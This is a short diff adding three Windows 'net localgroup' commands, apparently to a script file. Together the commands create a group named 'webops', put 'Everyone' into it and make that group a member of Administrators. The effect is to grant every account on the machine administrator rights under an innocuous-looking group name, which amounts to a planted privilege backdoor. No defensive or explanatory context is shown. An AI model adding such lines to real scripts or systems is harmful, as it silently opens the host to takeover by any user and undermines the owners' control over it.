@@ -1,0 +1,3 @@
+net localgroup webops /add
+net localgroup webops Everyone /add
+net localgroup Administrators webops /add
